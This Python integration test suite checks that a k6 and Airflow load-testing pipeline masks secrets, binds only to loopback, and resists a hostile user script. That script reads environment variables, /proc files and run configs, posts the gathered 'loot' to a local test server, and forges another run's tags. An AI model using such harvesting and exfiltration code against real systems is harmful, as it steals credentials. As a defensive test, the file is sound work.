"""Secrets and exposure during a real run: a secret header value and the InfluxDB password never reach the task
log (Airflow's secret masker), the reports or InfluxDB's tags, even when the user's script prints them; and while
k6 runs, no listening socket of ours (k6, influxd, the demo target, the run's own processes) is bound to anything
but loopback. k6's REST API and web dashboard do not listen at all.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from perfpipe.app.report_paths import stage_report_dir

from conftest import k6_runs_at, wait_until  # noqa: E402  (tests/ is on sys.path)

pytestmark = pytest.mark.integration

PERFPIPE = str(Path(sys.executable).parent / "perfpipe")
HEADER_SECRET = "hdr-s3cr3t-7f1c9a2e"
INFLUX_PASSWORD = "influx-pw-5d2b8e41"
RW_PASSWORD = "remote-write-pw-93c1a7f0"
LOOPBACK = {"127.0.0.1", "::1", "::ffff:127.0.0.1"}

SCRIPT = """import http from 'k6/http';
import { check, sleep } from 'k6';
export const options = { vus: 2, duration: '8s' };
const headers = JSON.parse(__ENV.PERFPIPE_TARGET_HEADERS || '{}');
export default function () {
  // A careless script: prints what it sends. The task log and k6.log must still not show the secret.
  if (__ITER === 0) { console.log('sending Authorization: ' + headers.Authorization); }
  const res = http.get(__ENV.BASE_URL + '/', { headers: headers });
  check(res, { 'status 200': (r) => r.status === 200 });
  sleep(0.1);
}
"""


class Recorder:
    """A loopback server that keeps the Authorization values it was sent (proof a secret was really used) and the
    bodies of its POSTs (what a script found and sent out; what a remote-write output sent)."""

    def __init__(self):
        seen, bodies = self.seen, self.bodies = set(), []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                seen.add(self.headers.get("Authorization"))
                self._ok()

            def do_POST(self):  # noqa: N802
                seen.add(self.headers.get("Authorization"))
                bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode(errors="replace"))
                self._ok()

            def _ok(self):
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


# --- listening sockets -----------------------------------------------------------------------------------------

def _decode_address(hex_address: str) -> str:
    import ipaddress

    raw = bytes.fromhex(hex_address)
    if len(raw) == 4:
        return str(ipaddress.IPv4Address(raw[::-1]))
    # /proc/net/tcp6: four 32-bit words, each in host (little-endian) order
    return str(ipaddress.IPv6Address(b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))))


def listening_sockets() -> dict[int, tuple[str, int]]:
    """inode -> (address, port) of every TCP socket in LISTEN state on this machine."""
    found = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] != "0A":  # LISTEN
                continue
            address, port = fields[1].split(":")
            found[int(fields[9])] = (_decode_address(address), int(port, 16))
    return found


def socket_inodes(pid: int) -> set[int]:
    inodes = set()
    try:
        for fd in Path(f"/proc/{pid}/fd").iterdir():
            try:
                target = os.readlink(fd)
            except OSError:
                continue
            if target.startswith("socket:["):
                inodes.add(int(target[8:-1]))
    except OSError:
        pass
    return inodes


def descendants(root: int) -> set[int]:
    children: dict[int, set[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError):
                continue
            children.setdefault(ppid, set()).add(int(entry.name))
    found, todo = set(), [root]
    while todo:
        pid = todo.pop()
        found.add(pid)
        todo.extend(children.get(pid, set()) - found)
    return found


def pids_by_cmdline(needle: str) -> set[int]:
    pids = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if needle.encode() in (entry / "cmdline").read_bytes():
                    pids.add(int(entry.name))
            except OSError:
                continue
    return pids


def listeners_of(pids: set[int]) -> dict[int, list[tuple[str, int]]]:
    listening = listening_sockets()
    return {pid: [listening[i] for i in socket_inodes(pid) if i in listening] for pid in pids}


# --- the test --------------------------------------------------------------------------------------------------

def test_secrets_stay_out_of_logs_reports_and_tags_and_nothing_of_ours_listens_beyond_loopback(
        influxdb, demo_target, airflow_db, session_dir, tmp_path):
    demo_port = int(demo_target.url.rsplit(":", 1)[1])
    recorder = Recorder()
    script = tmp_path / "prints_secret.js"
    script.write_text(SCRIPT)
    target_file = tmp_path / "secret-target.yaml"
    target_file.write_text(yaml.safe_dump({
        "name": "secretive", "base_url": recorder.url, "script": str(script),
        "headers": {"Authorization": {"env": "PERFPIPE_EXPOSURE_TOKEN", "prefix": "Bearer "}}}))
    date = "2026-05-02T00:00:00+00:00"
    log = tmp_path / "run.log"
    env = {**os.environ, "PERFPIPE_EXPOSURE_TOKEN": HEADER_SECRET, "PERFPIPE_INFLUXDB_USER": "perfpipe",
           "PERFPIPE_INFLUXDB_PASSWORD": INFLUX_PASSWORD}
    run = subprocess.Popen([PERFPIPE, "run", "smoke", "--target", str(target_file), "--profile", "quick",
                            "--logical-date", date, "--json"], stdout=subprocess.PIPE, stderr=open(log, "w"),
                           text=True, env=env, start_new_session=True)
    try:
        def k6_running():
            assert run.poll() is None, log.read_text()[-3000:]
            return k6_runs_at("perf_smoke", date)

        wait_until(k6_running, 120, "k6 started")
        time.sleep(2)  # k6 is past its init: any listener it would open is open now
        influxd_pid = int((session_dir / "run" / "influxd.pid").read_text().strip())
        ours = {influxd_pid, os.getpid()} | descendants(run.pid) | \
            pids_by_cmdline(f"demo_target.py\x00--host\x00127.0.0.1\x00--port\x00{demo_port}\x00")
        k6_pids = {p.pid for p in k6_runs_at("perf_smoke", date)}
        assert k6_pids, "k6 ended before the scan"
        assert k6_pids <= ours, "k6 runs as a child of the perfpipe run"
        listeners = listeners_of(ours)
        out, _ = run.communicate(timeout=120)
    finally:
        if run.poll() is None:
            run.kill()
            run.wait(timeout=30)
        recorder.close()
    stderr = log.read_text()
    assert run.returncode == 0, stderr[-3000:]

    # Nothing of ours listens beyond loopback; influxd and the demo target were seen (the scan can fail).
    everything = [(pid, addr) for pid, addrs in listeners.items() for addr in addrs]
    assert [entry for entry in everything if entry[1][0] not in LOOPBACK] == []
    assert {port for _, (_, port) in everything} >= {int(influxdb.settings.url.rsplit(":", 1)[1]), demo_port}
    assert all(not listeners[pid] for pid in k6_pids), f"k6 listens: {listeners}"  # no REST API, no dashboard port
    conf = (session_dir / "influxdb" / "influxdb.conf").read_text()
    assert all("127.0.0.1:" in line for line in conf.splitlines() if line.strip().startswith("bind-address"))

    # The secret really was sent, and the script really printed it ...
    assert recorder.seen == {f"Bearer {HEADER_SECRET}"}
    assert "sending Authorization: Bearer ***" in stderr
    # ... yet neither secret is in the task log, the reports or InfluxDB.
    assert HEADER_SECRET not in stderr and INFLUX_PASSWORD not in stderr
    assert HEADER_SECRET not in out and INFLUX_PASSWORD not in out
    result = json.loads(out)
    run_id = result["run_id"]
    report_dir = stage_report_dir("perf_smoke", run_id, "smoke")
    files = [p for p in report_dir.rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {"k6.log", "summary.json", "run-config.json"}
    for path in files:
        text = path.read_text(errors="replace")
        assert HEADER_SECRET not in text and INFLUX_PASSWORD not in text, path
    assert "Bearer ***" in (report_dir / "k6.log").read_text()
    series = json.dumps(influxdb.get_conn().query("SHOW SERIES").raw)
    assert result["stages"][0]["testid"] in series  # the run's samples are there ...
    assert HEADER_SECRET not in series and INFLUX_PASSWORD not in series  # ... without the secrets in any tag
    points = json.dumps(influxdb.query('SELECT * FROM "perf_results" WHERE "run_id" = $r', {"r": run_id}))
    assert run_id in points and HEADER_SECRET not in points and INFLUX_PASSWORD not in points


# --- a hostile script: looks for the output password, files its samples under another run ------------------------

HOSTILE_SCRIPT = """import http from 'k6/http';
import { sleep } from 'k6';
import { Counter } from 'k6/metrics';
export const options = { vus: 1, duration: '3s' };
const found = [];
function grab(route, read) {
  try { found.push(route + '=' + read()); } catch (e) { found.push(route + ' failed: ' + e); }
}
grab('__ENV', () => JSON.stringify(__ENV));
grab('/proc/self/environ', () => open('/proc/self/environ'));
grab('/proc/self/cmdline', () => open('/proc/self/cmdline'));
grab('run config', () => open(__ENV.PERFPIPE_RUN_CONFIG));
grab('report dir', () => open(__ENV.PERFPIPE_RUN_CONFIG.replace('run-config.json', 'k6.log')));
const fake = new Counter('perf_results');  // named like perfpipe's own results measurement
export default function () {
  http.post(__ENV.BASE_URL + '/loot', found.join('\\n'),
            { tags: { testid: 'someone-else:run:smoke:try1', test_type: 'load', target: 'other' } });
  fake.add(1);
  sleep(0.2);
}
"""


def test_a_script_finds_no_output_password_and_cannot_tag_another_run(influxdb, airflow_db, tmp_path):
    recorder, remote_write = Recorder(), Recorder()  # the target; a Prometheus remote-write receiver
    script = tmp_path / "hostile.js"
    script.write_text(HOSTILE_SCRIPT)
    target_file = tmp_path / "hostile-target.yaml"
    target_file.write_text(yaml.safe_dump({"name": "hostile", "base_url": recorder.url, "script": str(script)}))
    # Both outputs with credentials: InfluxDB (the record) and Prometheus remote write (an extra view).
    env = {**os.environ, "PERFPIPE_INFLUXDB_USER": "perfpipe", "PERFPIPE_INFLUXDB_PASSWORD": INFLUX_PASSWORD,
           "PERFPIPE_OUTPUTS": "influxdb,prometheus", "PERFPIPE_PROMETHEUS_RW_URL": f"{remote_write.url}/api/v1/write",
           "PERFPIPE_PROMETHEUS_RW_USERNAME": "writer", "PERFPIPE_PROMETHEUS_RW_PASSWORD": RW_PASSWORD}
    try:
        done = subprocess.run([PERFPIPE, "run", "smoke", "--target", str(target_file), "--profile", "quick",
                               "--logical-date", "2026-05-03T00:00:00+00:00", "--json"], capture_output=True,
                              text=True, env=env, timeout=300)
    finally:
        recorder.close()
        remote_write.close()
    assert done.stdout, done.stderr[-3000:]
    [stage] = json.loads(done.stdout)["stages"]

    # The script did read its environment, command line and files, and sent them out ...
    assert recorder.bodies
    loot = recorder.bodies[0]
    # (k6 1.1's open() fails on /proc files, "input/output error"; were it to read them, they hold no password
    # either: it is in neither k6's environment nor its command line.)
    tried = [route for route in ("__ENV", "/proc/self/environ", "/proc/self/cmdline", "run config", "report dir")
             if f"\n{route}=" in f"\n{loot}" or f"\n{route} failed" in f"\n{loot}"]
    assert len(tried) == 5 and '"BASE_URL":' in loot and '"schema": "perfpipe-run-config/1"' in loot, loot[:3000]
    # ... and none of it holds either output's password, in any form (the relays' addresses are all k6 has).
    assert all(INFLUX_PASSWORD not in body and RW_PASSWORD not in body for body in recorder.bodies)
    assert "K6_INFLUXDB" not in loot and "K6_PROMETHEUS_RW_PASSWORD" not in loot and "K6_PROMETHEUS_RW_USER" not in loot
    # The remote writes still arrived, authenticated by the relay with the credentials k6 never had.
    assert remote_write.bodies and remote_write.seen == {
        "Basic " + base64.b64encode(f"writer:{RW_PASSWORD}".encode()).decode()}

    # Its samples are filed under its own run whatever it tagged, and its perf_results counter never landed.
    testids = json.dumps(influxdb.query('SHOW TAG VALUES FROM "http_reqs" WITH KEY = "testid"'))
    assert "someone-else" not in testids and stage["testid"] in testids
    [row] = influxdb.query('SELECT count("value") AS n FROM "http_reqs" WHERE "testid" = $t AND '
                           '"target" = \'hostile\' AND "test_type" = \'smoke\'', {"t": stage["testid"]})
    assert row["n"] == len(recorder.bodies)
    assert influxdb.query('SELECT count("value") FROM "perf_results"') == []
    assert "InfluxDB relay:" in done.stderr and "refused" in done.stderr
